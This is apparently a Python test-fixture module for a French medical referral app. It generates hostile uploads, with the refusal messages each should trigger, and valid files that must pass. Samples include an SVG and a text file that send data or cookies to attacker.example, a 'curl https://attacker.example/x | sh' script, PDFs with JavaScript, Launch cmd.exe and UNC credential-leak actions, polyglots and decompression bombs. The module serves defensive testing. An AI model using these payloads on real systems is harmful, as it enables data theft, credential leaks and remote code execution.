"""A hostile-upload corpus generated in memory, and the valid files that must still pass.

Each hostile file comes with the French words its refusal must contain. Built with pypdf,
Pillow and zipfile from scratch at every run: nothing binary is kept in the repository.
"""

import functools
import io
import re
import zipfile
import zlib
from dataclasses import dataclass

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

# The EICAR test file: harmless, detected by every antivirus as if it were malware.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
# Upload size limit while the corpus runs: small, so that "oversized" stays fast to send.
SIZE_LIMIT = 256 * 1024


@dataclass(frozen=True)
class Sample:
    id: str
    name: str
    build: object  # () -> bytes
    expected: str = ""  # words of the French refusal
    needs_clamd: bool = False

    @property
    def data(self) -> bytes:
        return self.build()


# ---------------------------------------------------------------------------------------------
# Building blocks
# ---------------------------------------------------------------------------------------------
def _name(value: str) -> NameObject:
    return NameObject(value)


def _dict(**entries) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})


def pdf(mutate=None, *, content: bytes = b"") -> bytes:
    """A one-page PDF written by pypdf; `mutate(writer, page)` adds what the sample needs."""
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    if content:
        stream = DecodedStreamObject()
        stream.set_data(content)
        page[NameObject("/Contents")] = writer._add_object(stream)
    if mutate:
        mutate(writer, page)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _annotation(writer, page, **entries) -> None:
    annotation = _dict(
        Type=_name("/Annot"),
        Rect=ArrayObject([FloatObject(10), FloatObject(10), FloatObject(100), FloatObject(40)]),
        **entries,
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _link(action: DictionaryObject):
    return lambda writer, page: _annotation(writer, page, Subtype=_name("/Link"), A=action)


def _open_action(action: DictionaryObject):
    def mutate(writer, page):
        writer._root_object[NameObject("/OpenAction")] = action

    return mutate


def _javascript(code: str = "app.alert('pwned');") -> DictionaryObject:
    return _dict(S=_name("/JavaScript"), JS=TextStringObject(code))


def image(kind: str, *, size=(8, 8), **options) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, kind, **options)
    return buffer.getvalue()


def zip_bytes(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    crc = zlib.crc32(kind + payload).to_bytes(4, "big")
    return len(payload).to_bytes(4, "big") + kind + payload + crc


# ---------------------------------------------------------------------------------------------
# Hostile files
# ---------------------------------------------------------------------------------------------
def _svg_script() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>fetch('/api/v1/referrals/').then(r=>r.text()).then(t=>navigator.sendBeacon("
        b"'https://attacker.example/',t))</script></svg>"
    )


def _svg_onload() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"></svg>'


def _html_page() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"


def _html_without_doctype() -> bytes:
    return b"<p>Compte rendu</p><img src=x onerror=alert(1)>"


def _text_with_script() -> bytes:
    return (
        b"Compte rendu de consultation.\nTension 13/8, ECG normal.\n"
        b"<script>document.location='https://attacker.example/?c='+document.cookie</script>\n"
    )


def _pdf_javascript_on_open() -> bytes:
    return pdf(_open_action(_javascript()))


def _pdf_javascript_name_tree() -> bytes:
    def mutate(writer, page):
        names = ArrayObject([TextStringObject("auto"), writer._add_object(_javascript())])
        writer._root_object[NameObject("/Names")] = _dict(JavaScript=_dict(Names=names))

    return pdf(mutate)


def _pdf_launch() -> bytes:
    return pdf(_open_action(_dict(S=_name("/Launch"), F=TextStringObject("cmd.exe"))))


def _pdf_embedded_file() -> bytes:
    return pdf(lambda writer, page: writer.add_attachment("facture.exe", b"MZ\x90\x00payload"))


def _pdf_page_additional_action() -> bytes:
    def mutate(writer, page):
        page[NameObject("/AA")] = _dict(
            O=_dict(S=_name("/URI"), URI=TextStringObject("https://tracker.example/open"))
        )

    return pdf(mutate)


def _pdf_xfa() -> bytes:
    def mutate(writer, page):
        writer._root_object[NameObject("/AcroForm")] = _dict(
            Fields=ArrayObject(), XFA=TextStringObject("<xdp:xdp/>")
        )

    return pdf(mutate)


def _pdf_rich_media() -> bytes:
    return pdf(lambda writer, page: _annotation(writer, page, Subtype=_name("/RichMedia")))


def _pdf_submit_form() -> bytes:
    return pdf(
        _link(_dict(S=_name("/SubmitForm"), F=TextStringObject("https://attacker.example/")))
    )


def _pdf_file_uri() -> bytes:
    return pdf(_link(_dict(S=_name("/URI"), URI=TextStringObject("file:///C:/Windows/calc.exe"))))


def _pdf_remote_goto_unc() -> bytes:
    # Opening a document on an SMB share leaks the reader's Windows credentials.
    return pdf(
        _link(
            _dict(
                S=_name("/GoToR"),
                F=TextStringObject("\\\\attacker.example\\share\\x.pdf"),
                D=ArrayObject([NumberObject(0), _name("/Fit")]),
            )
        )
    )


def _pdf_obfuscated_names() -> bytes:
    """/JavaScript and /JS written /J#61vaScript and /J#53: the same names for a PDF reader,
    invisible to a naive byte search."""
    data = pdf(_open_action(_javascript()))
    return data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")


def _pdf_javascript_in_object_stream() -> bytes:
    """The action lives in a compressed object stream (PDF 1.5): no byte scan sees it."""
    action = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    header = b"4 0 "
    object_stream = zlib.compress(header + action)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in enumerate(objects, start=1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[5] = len(out)
    out += (
        b"5 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(object_stream))
        + object_stream
        + b"\nendstream\nendobj\n"
    )
    # Cross-reference stream: type 1 (offset) for 1-3 and 5, type 2 (in stream 5) for 4.
    rows = [b"\x00\x00\x00\x00\xff\xff"]
    for number in range(1, 7):
        if number == 4:
            rows.append(b"\x02" + (5).to_bytes(4, "big") + b"\x00")
        elif number == 6:
            rows.append(b"\x01" + len(out).to_bytes(4, "big") + b"\x00")
        else:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00")
    xref = b"".join(rows)
    start = len(out)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n"
        % len(xref)
        + xref
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    )
    return bytes(out)


def _pdf_orphan_javascript() -> bytes:
    """An object no reference reaches, after the end: some viewers' repair still runs it."""
    return pdf() + b"9 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"


def _pdf_html_polyglot() -> bytes:
    """Opens as a PDF, and as a web page in a browser that sniffs."""
    data = pdf()
    return data.replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1)


def _html_pdf_polyglot() -> bytes:
    """A web page first; PDF readers look for the header in the first 1,024 bytes."""
    return b"<html><script>alert(1)</script><!--\n" + pdf() + b"-->"


def _pdf_with_zip() -> bytes:
    return pdf() + zip_bytes({"payload.js": b"WScript.Shell"})


def _pdf_with_executable_after_eof() -> bytes:
    return pdf() + b"MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode"


def _jpeg_with_html() -> bytes:
    return image("JPEG") + b"<html><script>alert(1)</script></html>"


def _jpeg_with_zip() -> bytes:
    return image("JPEG") + zip_bytes({"run.bat": b"calc.exe"})


def _png_with_zip() -> bytes:
    return image("PNG") + zip_bytes({"run.bat": b"calc.exe"})


def _png_with_script_in_text_chunk() -> bytes:
    data = image("PNG")
    chunk = _png_chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>")
    return data[:33] + chunk + data[33:]  # right after IHDR


def _png_with_executable() -> bytes:
    return image("PNG") + b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64


def _exe_renamed() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48


def _elf_renamed() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 57


def _zip_bomb() -> bytes:
    """Ten megabytes of zeros inside a zip inside a zip: a few kilobytes on the wire."""
    inner = zip_bytes({"zeros.bin": bytes(10 * 1024 * 1024)})
    return zip_bytes({f"part{i}.zip": inner for i in range(5)})


def _png_decompression_bomb() -> bytes:
    """A PNG header claiming 50,000 x 50,000 pixels: a few bytes, gigabytes once decoded."""
    header = (50_000).to_bytes(4, "big") * 2 + bytes([1, 0, 0, 0, 0])
    pixels = zlib.compress(bytes(1024))
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", pixels)
        + _png_chunk(b"IEND", b"")
    )


def _oversized() -> bytes:
    return pdf() + b"%" + b"x" * SIZE_LIMIT + b"\n"


def _encrypted_pdf() -> bytes:
    def mutate(writer, page):
        writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")

    return pdf(mutate)


def _rtf() -> bytes:
    return rb"{\rtf1\ansi{\object\objemb{\*\objdata 0105000002000000}}}"


def _shell_script() -> bytes:
    return b"#!/bin/sh\ncurl https://attacker.example/x | sh\n"


def _ole_document() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def _text_with_control_characters() -> bytes:
    return b"Compte rendu\x1b[2J\x1b]0;titre\x07 normal\n"


def _text_hiding_a_pdf() -> bytes:
    """Plain text for a text viewer; a PDF reader finds the header in the first 1,024 bytes."""
    from tests.referrals.conftest import PDF_BYTES

    return b"Notes de consultation\n" + PDF_BYTES


def _eicar() -> bytes:
    return EICAR


def _eicar_in_valid_pdf() -> bytes:
    """A well-formed PDF, clean for every structural check: only the antivirus can tell."""
    return pdf(content=b"% " + EICAR + b"\n")


HOSTILE = [
    Sample("svg-script", "schema.svg", _svg_script, "son contenu est une image SVG"),
    Sample("svg-renamed-png", "photo.png", _svg_onload, "son contenu est une image SVG"),
    Sample("html-page", "compte-rendu.html", _html_page, "son contenu est une page web"),
    Sample("html-renamed-txt", "notes.txt", _html_without_doctype, "une page web"),
    Sample("text-with-script", "notes.txt", _text_with_script, "contient du code web"),
    Sample("pdf-js-open", "ecg.pdf", _pdf_javascript_on_open, "contenu actif (du JavaScript"),
    Sample("pdf-js-names", "ecg.pdf", _pdf_javascript_name_tree, "contenu actif (du JavaScript"),
    Sample("pdf-launch", "ecg.pdf", _pdf_launch, "une commande qui lance un programme"),
    Sample("pdf-embedded", "ecg.pdf", _pdf_embedded_file, "un fichier incorporé"),
    Sample("pdf-aa", "ecg.pdf", _pdf_page_additional_action, "une action automatique"),
    Sample("pdf-xfa", "formulaire.pdf", _pdf_xfa, "un formulaire XFA"),
    Sample("pdf-richmedia", "ecg.pdf", _pdf_rich_media, "contenu multimédia interactif"),
    Sample("pdf-submitform", "ecg.pdf", _pdf_submit_form, "un envoi de données"),
    Sample("pdf-file-uri", "ecg.pdf", _pdf_file_uri, "l'ouverture d'une ressource"),
    Sample("pdf-gotor-unc", "ecg.pdf", _pdf_remote_goto_unc, "l'ouverture d'une ressource"),
    Sample("pdf-obfuscated", "ecg.pdf", _pdf_obfuscated_names, "des noms masqués"),
    Sample("pdf-objstm-js", "ecg.pdf", _pdf_javascript_in_object_stream, "du JavaScript"),
    Sample("pdf-orphan-js", "ecg.pdf", _pdf_orphan_javascript, "du JavaScript"),
    Sample("pdf-html-polyglot", "ecg.pdf", _pdf_html_polyglot, "contient du code web"),
    Sample("html-pdf-polyglot", "ecg.pdf", _html_pdf_polyglot, "son contenu est une page web"),
    Sample("pdf-zip-polyglot", "ecg.pdf", _pdf_with_zip, "fichier polyglotte"),
    Sample("pdf-exe-after-eof", "ecg.pdf", _pdf_with_executable_after_eof, "un programme"),
    Sample("jpeg-html", "photo.jpg", _jpeg_with_html, "contient du code web"),
    Sample("jpeg-zip", "photo.jpg", _jpeg_with_zip, "une archive ZIP"),
    Sample("png-zip", "photo.png", _png_with_zip, "une archive ZIP"),
    Sample("png-text-chunk-script", "photo.png", _png_with_script_in_text_chunk, "code web"),
    Sample("png-exe-appended", "photo.png", _png_with_executable, "un programme Windows"),
    Sample("exe-as-pdf", "ordonnance.pdf", _exe_renamed, "son contenu est un programme Windows"),
    Sample("elf-as-png", "radio.png", _elf_renamed, "son contenu est un programme exécutable"),
    Sample("zip-bomb-as-pdf", "resultats.pdf", _zip_bomb, "une archive ZIP"),
    Sample("png-bomb", "radio.png", _png_decompression_bomb, "image trop grande"),
    Sample("oversized", "gros.pdf", _oversized, "la limite est de 256"),
    Sample("empty", "vide.pdf", lambda: b"", "vide"),
    Sample("encrypted-pdf", "bilan.pdf", _encrypted_pdf, "protégé par un mot de passe"),
    Sample("rtf-as-txt", "lettre.txt", _rtf, "un document RTF"),
    Sample("script-as-txt", "notes.txt", _shell_script, "un script exécutable"),
    Sample("ole-as-pdf", "courrier.pdf", _ole_document, "un document Office ancien"),
    Sample("text-control-chars", "notes.txt", _text_with_control_characters, "contrôle"),
    Sample("text-hiding-pdf", "notes.txt", _text_hiding_a_pdf, "fichier polyglotte"),
    # Names: a browser would never send these. Django's multipart parser keeps the last path
    # component and drops invisible characters; what is left is then judged like any name.
    Sample("rtl-override", "facture\u202efdp.exe", _exe_renamed, "programme Windows"),
    Sample("nul-in-name", "ordonnance.pdf\x00.exe", lambda: pdf(), "ne correspond pas"),
    Sample("eicar", "eicar.txt", _eicar, "logiciel malveillant", needs_clamd=True),
    Sample("eicar-in-pdf", "ecg.pdf", _eicar_in_valid_pdf, "logiciel malveillant", True),
]


# ---------------------------------------------------------------------------------------------
# Valid files: each must pass every check, the antivirus included
# ---------------------------------------------------------------------------------------------
@functools.cache
def _weasyprint_pdf() -> bytes:
    from weasyprint import HTML

    return HTML(
        string="<h1>Compte rendu</h1><p>Échographie cardiaque : FEVG 60 %, pas de valvulopathie."
        '</p><p><a href="https://ess.example.org/">Guichet ESS</a></p>'
    ).write_pdf()


def _pdf_with_link_and_destination() -> bytes:
    def mutate(writer, page):
        writer._root_object[NameObject("/OpenAction")] = ArrayObject(
            [page.indirect_reference, _name("/Fit")]
        )
        _link(_dict(S=_name("/URI"), URI=TextStringObject("https://www.has-sante.fr/")))(
            writer, page
        )

    return pdf(mutate)


def _pdf_incremental_update() -> bytes:
    """A second revision appended after the first %%EOF, as signing tools do."""
    first = pdf()
    start = first.rfind(b"startxref")
    previous = int(first[start:].split()[1])
    info = b"7 0 obj\n<< /Producer (Signature) >>\nendobj\n"
    offset = len(first)
    xref = b"xref\n7 1\n%010d 00000 n \n" % offset
    reader_root = re.search(rb"/Root \d+ \d+ R", first).group()
    trailer = b"trailer\n<< /Size 8 %s /Prev %d /Info 7 0 R >>\n" % (reader_root, previous)
    return first + info + xref + trailer + b"startxref\n%d\n%%%%EOF\n" % (offset + len(info))


def _pdf_owner_password_only() -> bytes:
    """Printing and copying restricted, no password to open: laboratories send these."""
    return pdf(lambda writer, page: writer.encrypt(user_password="", owner_password="labo"))


def _jpeg_with_camera_trailer() -> bytes:
    return image("JPEG") + b"\x00\x00SEFHmetadata-of-a-phone-camera\x00\x00"


VALID = [
    Sample("weasyprint-pdf", "compte-rendu.pdf", _weasyprint_pdf),
    Sample("pypdf-pdf", "ecg.pdf", lambda: pdf(content=b"BT /F1 12 Tf 20 100 Td (ECG) Tj ET")),
    Sample("pdf-link-and-destination", "guide.pdf", _pdf_with_link_and_destination),
    Sample("pdf-incremental-update", "signe.pdf", _pdf_incremental_update),
    Sample("pdf-owner-password", "labo.pdf", _pdf_owner_password_only),
    Sample("jpeg", "photo.jpg", lambda: image("JPEG")),
    Sample("jpeg-progressive", "photo.jpeg", lambda: image("JPEG", progressive=True)),
    Sample("jpeg-camera-trailer", "photo.jpg", _jpeg_with_camera_trailer),
    Sample("png", "schema.png", lambda: image("PNG")),
    Sample(
        "utf8-text",
        "notes.txt",
        lambda: "Créatinine < 90 µmol/l, K+ > 3,5 ; « œdème » des membres inférieurs.\n".encode(),
    ),
]
